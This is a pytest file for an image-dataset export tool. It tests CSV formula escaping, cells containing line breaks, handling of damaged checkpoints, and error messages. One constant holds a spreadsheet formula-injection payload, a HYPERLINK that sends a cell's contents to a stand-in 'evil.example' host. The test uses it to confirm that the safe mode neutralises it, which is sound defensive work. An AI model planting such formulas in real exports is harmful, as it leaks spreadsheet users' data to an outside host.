"""The exported dataset in the hands of a spreadsheet."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest

from pinakes.checkpoints.checkpoint import open_checkpoint
from pinakes.errors import CheckpointError, PinakesError, UsageError
from pinakes.importing.columns import OtherColumns
from pinakes.operations.export import export
from pinakes.operations.export_like import export_like
from pinakes.settings import Settings
from tests.counting import Counting
from tests.running import paint, run
from tests.unit.test_checkpoints import SPACE, flip, ok, only_part

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


def test_a_csv_for_spreadsheets_holds_no_formula(settings: Settings, tmp_path: Path) -> None:
    for name in ("a.png", "=b.png"):
        paint(tmp_path / "in" / name, (0, 0, 255))
    table = tmp_path / "about.csv"
    pd.DataFrame({"file": ["a.png", "=b.png"], "title": [FORMULA, "Plain"], "author": ["@x", "-1"]}).to_csv(table)
    run(settings, tmp_path / "in")
    columns = ["image_id", "title", "author"]

    def rows(file: str, *, excel_safe: bool) -> set[tuple[str, ...]]:
        space = Counting().facts.space
        path = tmp_path / file
        export(
            path,
            collection="pictures",
            space=space,
            checkpoint=settings.checkpoint,
            metadata=[table],
            excel_safe=excel_safe,
        )
        frame = pd.read_csv(path)
        assert frame["vector"].str.startswith("[").all()
        return set(frame[columns].itertuples(index=False, name=None))

    assert rows("as-it-is.csv", excel_safe=False) == {("a.png", FORMULA, "@x"), ("=b.png", "Plain", "-1")}
    assert rows("safe.csv", excel_safe=True) == {("a.png", f"'{FORMULA}", "'@x"), ("'=b.png", "Plain", "'-1")}
    with pytest.raises(UsageError, match="--excel-safe is about CSV"):
        rows("all.parquet", excel_safe=True)


def test_a_cell_with_a_carriage_return_stays_one_cell(settings: Settings, tmp_path: Path) -> None:
    texts = {"a.png": "one\rtwo", "b.png": "one\r\ntwo", "c.png": "one\ntwo", "d.png": 'a "b", c', "e.png": "plain"}
    for name in texts:
        paint(tmp_path / "in" / name, (0, 0, 255))
    table = OtherColumns(Path("about"), ("file", "title"), lambda: enumerate(map(list, texts.items()), start=1))
    run(settings, tmp_path / "in")
    file = tmp_path / "out.csv"
    space = Counting().facts.space
    export(file, collection="pictures", space=space, checkpoint=settings.checkpoint, metadata=[table])
    with file.open(newline="", encoding="utf-8") as opened:
        assert {row["image_id"]: row["title"] for row in csv.DictReader(opened)} == texts
    written = file.read_bytes()
    assert b',"one\rtwo",' in written
    assert b",plain," in written
    assert written.count(b"\r\n") == 1  # in the cell: the rows end in a line feed alone


@pytest.fixture
def damaged(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """The root of a checkpoint of 200 vectors, of which the last hundred are in a damaged row group."""
    monkeypatch.setattr("pinakes.checkpoints.base.CHUNK_ROWS", 100)
    kept = open_checkpoint(str(tmp_path / "kept"), "art", SPACE)
    kept.write([ok(number) for number in range(200)])
    part = only_part(Path(kept.location))
    flip(part, pq.ParquetFile(part).metadata.row_group(1).column(3))
    return str(tmp_path / "kept")


@pytest.mark.parametrize("name", ["all.parquet", "all.csv", "all.xlsx"])
def test_an_export_of_nothing_but_damage_leaves_the_last_one_in_its_place(
    damaged: str, tmp_path: Path, name: str
) -> None:
    part = only_part(tmp_path / "kept" / "art" / SPACE.name)
    flip(part, pq.ParquetFile(part).metadata.row_group(0).column(3))
    (tmp_path / name).write_text("the last one")
    with pytest.raises(CheckpointError, match=r"^nothing was exported: all vectors in .* are damaged and lost"):
        export(tmp_path / name, collection="art", space=SPACE, checkpoint=damaged)
    assert (tmp_path / name).read_text() == "the last one"


def test_no_row_of_zeros_takes_the_place_of_a_damaged_vector(damaged: str, tmp_path: Path) -> None:
    path = tmp_path / "embeddings.csv"
    with pytest.raises(CheckpointError, match=r"^100 of 200 vectors in .* are damaged and lost"):
        export_like("vertex", path, collection="art", space=SPACE, checkpoint=damaged)
    assert not path.exists()
    assert export_like("vertex", path, collection="art", space=SPACE, checkpoint=damaged).rows == 100
    assert not any(line.endswith(",0.0") for line in path.read_text().splitlines())


class Document:
    """A table that is in no file, as a document of IIIF gives it."""

    path, columns, form = "iiif+https://museum.example/all.json", ("file", "title"), "document"

    def rows(self) -> Iterator[tuple[int, list[str]]]:
        yield 1, ["00001.jpg", "One"]


def test_the_tutorials_dataset_is_not_made_of_a_table_that_is_in_no_file(damaged: str, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"^--like tutorial takes CSV or TSV, and iiif\+https://.* is neither"):
        export_like(
            "tutorial",
            tmp_path / "dataset.csv",
            collection="art",
            space=SPACE,
            checkpoint=damaged,
            metadata=[Document()],
        )


def test_an_export_that_cannot_be_written_is_one_sentence(settings: Settings, tmp_path: Path) -> None:
    paint(tmp_path / "in" / "a.png", (0, 0, 255))
    run(settings, tmp_path / "in")
    (tmp_path / "file").touch()
    with pytest.raises(PinakesError, match=r"the export .* cannot be written: Not a directory"):
        export(
            tmp_path / "file" / "out.csv",
            collection="pictures",
            space=Counting().facts.space,
            checkpoint=settings.checkpoint,
        )
